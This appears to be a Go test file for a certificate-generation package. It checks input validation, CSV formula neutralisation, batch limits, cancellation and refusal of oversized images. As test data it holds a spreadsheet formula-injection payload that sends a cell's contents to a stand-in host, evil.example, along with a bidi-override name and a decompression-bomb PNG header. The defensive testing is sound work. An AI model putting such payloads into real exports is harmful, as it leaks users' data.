package certprint

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/csv"
	"errors"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/vanban/vanban/internal/apperr"
	"github.com/vanban/vanban/internal/award"
	"github.com/vanban/vanban/internal/certificate"
)

// Issue 10 item 8: control characters, line breaks and bidi overrides in a
// batch are refused, naming the field, including names read from a
// nominations file (which bypasses the JSON checks of the batch itself).
func TestBatchRefusesControlAndBidiCharacters(t *testing.T) {
	for _, bad := range []string{"A\r\nB", "A\tB", "A\u0001B", "A\u007fB", "A\u0085B", "A\u202eB", "A😀", "中文"} {
		b := loadBatch(t)
		b.Recipients[2].Name = bad
		_, err := gen(t).Prepare(b)
		e := apperr.As(err)
		if err == nil || e.Kind != apperr.Invalid {
			t.Fatalf("%q: err = %v, want Invalid", bad, err)
		}
		ok := false
		for _, p := range e.Problems {
			ok = ok || (p.Field == "recipients[2].name" && (p.Code == "invalid_text" || p.Code == "unsupported_character"))
		}
		if !ok {
			t.Errorf("%q: no problem at recipients[2].name: %v", bad, e.Problems)
		}
	}
	b := loadBatch(t)
	b.Decision.Signer.Name = "Nguyễn\u202eVăn"
	if _, err := gen(t).Prepare(b); err == nil || !strings.Contains(err.Error(), "decision.signer.name") {
		t.Errorf("bidi in signer: %v", err)
	}
	// é ü ñ ř keep working.
	b = loadBatch(t)
	b.Recipients[2].Name = "José Müller Muñoz Dvořák"
	if _, err := gen(t).Prepare(b); err != nil {
		t.Errorf("Latin accents refused: %v", err)
	}
}

// Issue 10 item 9: a collective named "=HYPERLINK(…)" reaches manifest.csv
// as text, never as a formula.
func TestManifestNeutralisesFormulas(t *testing.T) {
	var buf bytes.Buffer
	name := `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`
	if err := WriteManifest(&buf, []certificate.Issued{{UUID: "u", Number: 1, Recipient: certificate.Recipient{Nomination: award.Nomination{Kind: award.Collective, Name: name}}, File: "001.pdf"},
		{UUID: "v", Number: 2, Recipient: certificate.Recipient{Nomination: award.Nomination{Kind: award.Collective, Name: "@cmd"}}, File: "002.pdf"}}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows[1:] {
		if c := r[1][0]; c == '=' || c == '@' || c == '+' || c == '-' {
			t.Errorf("cell %q starts a formula", r[1])
		}
	}
	if rows[1][1] != "'"+name {
		t.Errorf("name = %q", rows[1][1])
	}
}

// Issue 10 item 16: the maximum batch is what fits in half the service's
// deadline: 5,000 certificates in one PDF, 1,000 in a ZIP.
func TestBatchMaximum(t *testing.T) {
	b := loadBatch(t)
	r := b.Recipients[0]
	b.Recipients = nil
	b.Numbering = &certificate.Numbering{Start: 1}
	for range certificate.MaxRecipients + 1 {
		r.Number = 0
		b.Recipients = append(b.Recipients, r)
	}
	_, err := gen(t).Prepare(b)
	if e := apperr.As(err); e.Kind != apperr.TooLarge || e.Code != "too_many_recipients" {
		t.Fatalf("%d recipients: %v", certificate.MaxRecipients+1, err)
	}
	b.Recipients = b.Recipients[:certificate.MaxZIPRecipients+1]
	b.Files = certificate.FileDOCX
	job, err := gen(t).Prepare(b)
	if err != nil {
		t.Fatal(err)
	}
	err = job.WriteZIP(io.Discard)
	if e := apperr.As(err); e.Kind != apperr.TooLarge || e.Code != "too_many_recipients" {
		t.Fatalf("ZIP of %d: %v", certificate.MaxZIPRecipients+1, err)
	}
}

// Issue 10 item 1: a batch whose caller has gone stops between two
// certificates.
func TestBatchStopsWhenCallerGone(t *testing.T) {
	b := loadBatch(t)
	b.Files = certificate.FileDOCX
	job, err := gen(t).Prepare(b)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	job.Bind(ctx)
	var out bytes.Buffer
	if err := job.WriteZIP(&out); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

// Issue 10 item 5: a 20,000 × 20,000 PNG background (48 KB) is refused from
// its header, before 3.6 GB are decoded.
func TestHugeBackgroundRefusedBeforeDecoding(t *testing.T) {
	var buf bytes.Buffer
	// A valid PNG header claiming 20,000 × 20,000; no pixel data is needed
	// to be refused.
	buf.Write([]byte("\x89PNG\r\n\x1a\n"))
	ihdr := []byte{0, 0, 0x4e, 0x20, 0, 0, 0x4e, 0x20, 8, 2, 0, 0, 0}
	writeChunk(&buf, "IHDR", ihdr)
	writeChunk(&buf, "IEND", nil)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	_, err := prepareBackground(buf.Bytes())
	runtime.ReadMemStats(&after)
	if e := apperr.As(err); e.Kind != apperr.TooLarge || e.Code != "background_too_large" {
		t.Fatalf("err = %v", err)
	}
	if got := after.TotalAlloc - before.TotalAlloc; got > 1<<20 {
		t.Errorf("allocated %d bytes before refusing", got)
	}
}

func writeChunk(w *bytes.Buffer, typ string, data []byte) {
	var n [4]byte
	binary.BigEndian.PutUint32(n[:], uint32(len(data)))
	w.Write(n[:])
	crc := crc32.NewIEEE()
	crc.Write([]byte(typ))
	crc.Write(data)
	w.WriteString(typ)
	w.Write(data)
	binary.BigEndian.PutUint32(n[:], crc.Sum32())
	w.Write(n[:])
}

// Issue 10 item 8, through the JSON of a batch: a line break or a tab in a
// name is refused, not folded into a space.
func TestBatchJSONRefusesLineBreaksInNames(t *testing.T) {
	data, err := os.ReadFile(filepath.Join("..", "..", "testdata", "giay-khen-batch.json"))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []string{`\r\n`, `\t`, `\n`} {
		in := strings.Replace(string(data), `"kind": "tap-the", "name": "`, `"kind": "tap-the", "name": "X`+c, 1)
		if in == string(data) {
			t.Fatal("no name in the batch")
		}
		_, err := certificate.ParseBatch([]byte(in), nil)
		if e := apperr.As(err); err == nil || e.Kind != apperr.Invalid {
			t.Errorf("%s: %v", c, err)
		}
	}
}
